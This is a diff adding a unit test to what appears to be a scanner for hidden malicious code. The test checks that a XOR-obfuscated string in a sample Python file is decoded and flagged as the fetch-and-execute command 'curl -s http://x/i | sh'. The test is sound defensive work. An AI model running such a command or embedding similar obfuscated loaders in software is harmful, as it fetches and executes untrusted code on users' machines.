@@ -714,6 +714,39 @@ START_TEST(alias_view)
 }
 END_TEST
 
+/* A literal XORed with the file's literal key: the payload is read as a
+ * view of the literal's line; a file without XOR is not read so. */
+START_TEST(xor_view)
+{
+	static const char pt[] = "curl -s http://x/i | sh";
+	struct finding_list fl;
+	const struct finding *f;
+	char t[512], hex[128];
+	size_t i, o;
+
+	for (i = 0, o = 0; pt[i] != '\0'; i++)
+		o += (size_t)snprintf(hex + o, sizeof(hex) - o, "%02x",
+		    (unsigned char)pt[i] ^ (unsigned char)"k3y"[i % 3]);
+	snprintf(t, sizeof(t), "import subprocess\nKEY = b'k3y'\n"
+	    "P = '%s'\n"
+	    "cmd = bytes(c ^ KEY[i %% 3] for i, c in "
+	    "enumerate(bytes.fromhex(P)))\n", hex);
+	scan_str("a.py", t, &fl);
+	f = tu_first(&fl, "curl-sh");
+	ck_assert_ptr_nonnull(f);
+	ck_assert_uint_eq(f->line, 3);
+	ck_assert_uint_eq(f->column, 5);
+	ck_assert_str_eq(f->excerpt,
+	    "via XOR with a literal key: curl -s http://x/i | sh");
+	finding_list_free(&fl);
+	/* The same literal in a file that XORs nothing. */
+	snprintf(t, sizeof(t), "KEY = b'k3y'\nP = '%s'\n", hex);
+	scan_str("a.py", t, &fl);
+	ck_assert_uint_eq(fl.n, 0);
+	finding_list_free(&fl);
+}
+END_TEST
+
 /* PowerShell's -EncodedCommand: base64 of UTF-16LE, read as the text. */
 START_TEST(base64_of_utf16)
 {
@@ -1070,6 +1103,7 @@ engine_suite(void)
 	tcase_add_test(tc, binary_strings);
 	tcase_add_test(tc, normalised_view);
 	tcase_add_test(tc, alias_view);
+	tcase_add_test(tc, xor_view);
 	tcase_add_test(tc, base64_of_utf16);
 	tcase_add_test(tc, base64_of_zlib);
 	tcase_add_test(tc, pickles);
